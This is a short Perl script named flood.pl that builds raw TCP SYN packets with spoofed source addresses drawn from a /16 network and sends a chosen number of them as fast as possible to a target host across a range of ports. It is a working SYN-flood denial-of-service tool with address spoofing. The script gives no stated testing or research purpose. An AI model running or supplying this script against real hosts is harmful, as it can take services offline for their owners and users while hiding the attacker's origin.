#!/usr/bin/perl
# SPDX-License-Identifier: GPL-2.0-or-later
#
# flood.pl FROM/16 TO PORTS COUNT: so many SYNs as fast as they go, each from another
# address of that network and to the next of PORTS, "1000-2000".
use strict;
use warnings;
use Socket;

my ($network, $to, $ports, $count) = @ARGV;
defined $count or die "usage: flood.pl FROM/16 TO PORTS COUNT\n";
my ($first, $last) = split /-/, $ports;
my ($base) = unpack 'N', inet_aton($network =~ s{/16$}{}r);
my $target = inet_aton($to);
socket(my $raw, PF_INET, SOCK_RAW, 255) or die "flood.pl: $!\n";

sub checksum {
	my $sum = unpack '%32n*', $_[0];
	$sum = ($sum & 0xffff) + ($sum >> 16) for 1 .. 2;
	return ~$sum & 0xffff;
}

for my $i (0 .. $count - 1) {
	my $source = pack 'N', $base + 1 + $i % 65000;
	my @tcp = (1024 + $i % 60000, $first + $i % ($last - $first + 1), $i, 0, 5 << 4, 2, 1024);
	my $tcp = pack 'nnNNCCnnn', @tcp, 0, 0;
	my $sum = checksum($source . $target . pack('xCn', 6, 20) . $tcp);
	$tcp = pack 'nnNNCCnnn', @tcp, $sum, 0;
	my $ip = pack 'CCnnnCCna4a4', 0x45, 0, 40, $i & 0xffff, 0, 64, 6, 0, $source, $target;
	send $raw, $ip . $tcp, 0, pack_sockaddr_in(0, $target);
}
